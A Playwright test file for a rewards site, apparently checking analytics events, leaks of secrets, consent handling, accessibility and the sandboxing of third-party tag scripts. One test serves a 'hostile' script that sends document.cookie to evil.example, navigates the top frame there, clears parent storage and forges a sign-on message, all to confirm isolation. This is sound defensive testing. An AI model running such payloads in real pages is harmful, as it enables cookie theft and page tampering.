import type { Page, Route } from '@playwright/test';
import { launchChromium } from '../deploy/cluster/launchChromium';
import { activate, anyWeeklyChallenge, bank } from './support/games';
import { violationsIn } from './support/axe';
import { testConsentBannerIn } from './support/consentBanner';
import { inMatrixUnless } from './support/matrix';
import { setVisitorCountry, dataLayerIn, watchMeasuring } from './support/measuring';
import { untilIdle } from './support/pages';
import { newPlayer, playGame } from './support/players';
import { platformUrl, siteUrl } from './support/settings';
import { accountButton, signIn, signOut } from './support/signOnWidget';
import { expect, test } from './support/test';
import { resize } from './support/resize';

const question = 'May we measure how you use the club?';

const view = (page: string, section: string, user: object) => ({
  type: 'pageView',
  page,
  section,
  siteCategory: 'Responsive Site',
  environment: 'dev',
  language: 'en',
  country: 'US',
  ...user,
});

test('reports home, rewards, login, dashboard, claim and logout in this order, without secrets', async ({ page }) => {
  test.slow();
  const [person, weekly] = [await newPlayer(), await anyWeeklyChallenge()];
  await activate(person, weekly);
  await playGame(person, weekly.gameSlug);
  await bank(person, weekly);
  const measuring = watchMeasuring(page);
  const tickets = new Set<string>();
  page.on('request', (request) => {
    const ticket = /^Ubi_v1 t=(.+)$/i.exec(request.headers().authorization ?? '')?.[1];
    if (ticket) tickets.add(ticket);
  });
  const until = (count: number) => expect.poll(() => measuring.events().length).toBeGreaterThanOrEqual(count);

  await page.goto('/');
  await until(1);
  await page.getByRole('banner').getByRole('link', { name: 'Rewards' }).click();
  await expect(page).toHaveURL('/rewards');
  await until(3);
  await signIn(page, person);
  await expect(page).toHaveURL('/dashboard');
  await until(6);
  const reward = page.getByRole('article').filter({ hasText: 'Claim' }).first();
  await reward.getByRole('heading').getByRole('button').click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('button', { name: /^Use \d+ Units$/ }).click();
  await expect(dialog.getByRole('heading', { name: 'It’s yours' })).toBeVisible();
  await dialog.getByRole('button', { name: 'Done' }).click();
  await signOut(page);
  await expect(page).toHaveURL('/');
  await until(11);

  const visitor = { loggedIn: 0, userId: null };
  const player = { loggedIn: 1, userId: person.userId };
  const tour = 'Take a tour pages';
  const expected = [
    view('home', tour, visitor),
    { type: 'action', page: 'home', action: 'menu-link', place: 'header' },
    view('rewards', tour, visitor),
    { type: 'action', page: 'rewards', action: 'sign-in', place: 'header' },
    { type: 'userChanged', cause: 'login', ...player },
    view('dashboard', 'Player pages', player),
    { type: 'action', page: 'dashboard', action: 'claim', place: 'page' },
    { type: 'action', page: 'dashboard', action: 'claim-pay', place: null },
    { type: 'action', page: 'dashboard', action: 'sign-out', place: 'account' },
    { type: 'userChanged', cause: 'logout', ...visitor },
    view('home', tour, visitor),
  ];
  expect(measuring.events()).toEqual(expected);
  const dataLayer = await dataLayerIn(page);
  expect(dataLayer).toEqual(
    expect.arrayContaining([{ type: 'container', name: 'americas', kind: 'test' }, ...expected]),
  );

  const everything = measuring.sent() + JSON.stringify(dataLayer) + measuring.urls().join(' ');
  expect(everything).toContain(person.userId);
  expect(tickets.size).toBeGreaterThan(0);
  for (const secret of [person.email, person.name, person.password, ...tickets]) {
    expect(everything).not.toContain(secret);
    expect(everything).not.toContain(encodeURIComponent(secret));
  }
  expect(new Set(measuring.urls().map((url) => url.replace(platformUrl, '')))).toContain(
    '/tags/test/americas/container.js',
  );
});

test('measures nothing before and after the visitor refuses', async ({ page }) => {
  const scripts: string[] = [];
  page.on('response', (response) => {
    if (response.url().endsWith('.js')) void response.text().then((text) => scripts.push(text), ignore);
  });
  const measuring = watchMeasuring(page);
  await setVisitorCountry(page, 'FR');
  await page.goto('/');
  await page.getByRole('region', { name: question }).getByRole('button', { name: 'Don’t allow' }).click();
  await expect(page.getByRole('region', { name: question })).toHaveCount(0);
  await page.getByRole('banner').getByRole('link', { name: 'Rewards' }).click();
  await expect(page).toHaveURL('/rewards');
  await page.reload();
  await expect(page.getByRole('contentinfo')).toBeVisible();
  await untilIdle(page);
  await expect(page.getByRole('region', { name: question })).toHaveCount(0);
  expect(measuring.urls()).toEqual([]);
  expect(scripts.length).toBeGreaterThan(3);
  expect(scripts.filter((text) => text.includes('/metrics/events'))).toEqual([]);
});

test('measures from the visitor’s consent until it is withdrawn', async ({ page }) => {
  const measuring = watchMeasuring(page);
  await setVisitorCountry(page, 'FR');
  await page.goto('/discount');
  await page.getByRole('region', { name: question }).waitFor();
  expect(measuring.urls()).toEqual([]);
  await page.getByRole('button', { name: 'Allow', exact: true }).click();
  await expect.poll(() => measuring.events()).toHaveLength(1);
  await expect
    .poll(() => measuring.urls().filter((url) => url.endsWith('container.js')))
    .toEqual([`${platformUrl}/tags/test/worldwide/container.js`, `${platformUrl}/tags/test/regional/fr/container.js`]);

  await page.getByRole('contentinfo').getByRole('button', { name: 'Privacy choices' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Don’t allow' }).click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(page.locator('iframe[src^="/static/tags"]')).toHaveCount(0);
  const before = measuring.urls().length;
  await page.getByRole('banner').getByRole('link', { name: 'Challenges' }).click();
  await expect(page).toHaveURL('/challenges');
  await untilIdle(page);
  expect(measuring.urls().slice(before)).toEqual([]);
});

test('treats Global Privacy Control as a refusal, and the privacy choices show it', async ({ page }) => {
  const measuring = watchMeasuring(page);
  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
  await page.goto('/discount');
  await page.getByRole('contentinfo').getByRole('button', { name: 'Privacy choices' }).click();
  await expect(page.getByRole('dialog')).toContainText('Global Privacy Control');
  await expect(page.getByRole('dialog').getByRole('button', { name: 'Allow', exact: true })).toHaveCount(0);
  await untilIdle(page);
  expect(measuring.urls()).toEqual([]);
});

test('the consent banner works by keyboard, causes no layout shift and leaves the footer reachable', async ({
  page,
}) => {
  await setVisitorCountry(page, 'DE');
  // Lines may break elsewhere once the fonts are there, which the banner does not cause. It comes afterwards.
  await page.route('**/iplocation', async (route) => {
    await page.evaluate(async () => {
      await document.fonts.ready;
      await new Promise(requestAnimationFrame);
      await new Promise(requestAnimationFrame);
      performance.mark('fonts are ready');
    });
    await route.fallback();
  });
  await page.addInitScript(countShifts);
  await page.goto('/discount');
  const banner = page.getByRole('region', { name: question });
  await expect(banner).toBeVisible();
  await expect.poll(() => page.evaluate('window.shifts')).toBeLessThan(0.01);

  await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
  const [foot, top] = [await page.getByRole('contentinfo').boundingBox(), await banner.boundingBox()];
  expect((foot?.y ?? 0) + (foot?.height ?? 0)).toBeLessThanOrEqual((top?.y ?? 0) + 1);

  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await expect(banner.getByRole('link', { name: 'Usage data' })).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(banner.getByRole('button', { name: 'Don’t allow' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(banner).toHaveCount(0);
  // Where it was before the banner, not far above the window.
  await expect(page.getByRole('link', { name: 'Skip to content' })).toBeFocused();
});

testConsentBannerIn(['de-DE'], ['index', 'rewards', 'discount', 'units']);

test('a consent banner that waits below the window comes up once the main action has left its place', async ({
  page,
}) => {
  await setVisitorCountry(page, 'DE');
  await resize(page, { width: 360, height: 640 });
  await page.goto('/discount');
  const banner = page.getByRole('region', { name: question });
  await expect(banner).toBeVisible();
  await expect(banner).not.toBeInViewport();
  // By keyboard it comes at once.
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await expect(banner.getByRole('link', { name: 'Usage data' })).toBeFocused();
  await expect(banner).toBeInViewport({ ratio: 1 });
  await page.getByRole('main').focus();
  await expect(banner).not.toBeInViewport();

  await page.mouse.wheel(0, 400);
  await expect(banner).toBeInViewport({ ratio: 1 });
  await banner.getByRole('button', { name: 'Don’t allow' }).click();
  await expect(banner).toHaveCount(0);
});

test('shows the consent banner with nav=0 too, and its explanation links to the privacy choices', async ({ page }) => {
  await setVisitorCountry(page, 'BR');
  await page.goto('/discount?nav=0');
  await page.getByRole('region', { name: question }).getByRole('link', { name: 'Usage data' }).click();
  await expect(page).toHaveURL('/discount?nav=0&_popup=measuring');
  await page.getByRole('dialog').getByRole('button', { name: 'Privacy choices' }).click();
  await page.getByRole('dialog', { name: 'Privacy choices' }).getByRole('button', { name: 'Don’t allow' }).click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(page.getByRole('region', { name: question })).toHaveCount(0);
  await expect(page).toHaveURL('/discount?nav=0');
});

for (const width of [360, 1280]) {
  const details = inMatrixUnless(width === 360);
  test(`consent banner, choices and explanation pass axe at ${width} px`, details, async ({ page }) => {
    await resize(page, { width, height: 800 });
    await setVisitorCountry(page, 'FR');
    await page.goto('/units');
    await page.getByRole('region', { name: question }).waitFor();
    expect(await violationsIn(page)).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
    await page.getByRole('contentinfo').getByRole('button', { name: 'Usage data' }).click();
    await page.getByRole('dialog').waitFor();
    expect(await violationsIn(page)).toEqual([]);
    await page.getByRole('dialog').getByRole('button', { name: 'Privacy choices' }).click();
    await page.getByRole('dialog', { name: 'Privacy choices' }).waitFor();
    expect(await violationsIn(page)).toEqual([]);
  });
}

test.describe('a container', () => {
  test.use({ expectedErrors: /container\.js|broken container|evil\.example|Unsafe attempt|sandboxed|localStorage/ });

  const hostile = `
    const tries = [
      () => parent.document.body.remove(),
      () => top.document.title,
      () => { top.location = 'https://evil.example/'; },
      () => parent.localStorage.clear(),
      () => localStorage.length,
      () => fetch('https://evil.example/?' + document.cookie),
      () => { new Image().src = 'https://evil.example/'; },
      () => parent.postMessage({ source: 'meridian-sign-on', type: 'loggedIn' }, '*'),
    ];
    for (const attempt of tries) { try { attempt(); } catch {} }`;

  const behaviors: Record<string, (route: Route) => unknown> = {
    'that is blocked': (route) => route.abort('blockedbyclient'),
    'that is not there': (route) => route.fulfill({ status: 404, body: 'no' }),
    'that hangs': () => undefined,
    'that throws': (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'throw new Error("broken container")' }),
    'that is hostile': (route) => route.fulfill({ contentType: 'text/javascript', body: hostile }),
  };

  for (const [behavior, respond] of Object.entries(behaviors))
    test(
      `${behavior} does not affect the player`,
      inMatrixUnless(behavior === 'that is hostile'),
      async ({ page }) => await expectUnaffected(page, respond),
    );

  test('that never ends does not affect the player', async () => {
    // With windows, Chromium runs a frame of another site in a process of its own.
    const browser = await launchChromium();
    const page = await browser.newPage({ baseURL: siteUrl, locale: 'en-US' });
    await expectUnaffected(page, (route) => route.fulfill({ contentType: 'text/javascript', body: 'for (;;) {}' }));
    await browser.close();
  });

  async function expectUnaffected(page: Page, respond: (route: Route) => unknown) {
    const measuring = watchMeasuring(page);
    const foreignRequests: string[] = [];
    page.context().on('requestfinished', (request) => {
      if (request.url().includes('evil.example')) foreignRequests.push(request.url());
    });
    const player = await newPlayer();
    await page.route('**/container.js', (route) => void respond(route));
    await page.goto('/');
    await expect.poll(() => measuring.urls().filter((url) => url.endsWith('container.js'))).toHaveLength(1);
    await page.getByRole('banner').getByRole('link', { name: 'Discount' }).click();
    await expect(page).toHaveURL('/discount');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await signIn(page, player);
    await expect(accountButton(page)).toBeVisible();
    await expect(page).toHaveURL('/dashboard');
    await expect.poll(() => measuring.events().map(({ page: name }) => name)).toContain('dashboard');
    expect(foreignRequests).toEqual([]);
  }
});

const ignore = () => undefined;

/** Runs in the browser: adds up the layout shifts since the fonts are ready. */
function countShifts() {
  let shifts = 0;
  new PerformanceObserver((list) => {
    const start = performance.getEntriesByName('fonts are ready')[0]?.startTime ?? Infinity;
    for (const entry of list.getEntries())
      if ('value' in entry && entry.startTime > start) shifts += Number(entry.value);
    Object.assign(window, { shifts });
  }).observe({ type: 'layout-shift', buffered: true });
  Object.assign(window, { shifts });
}
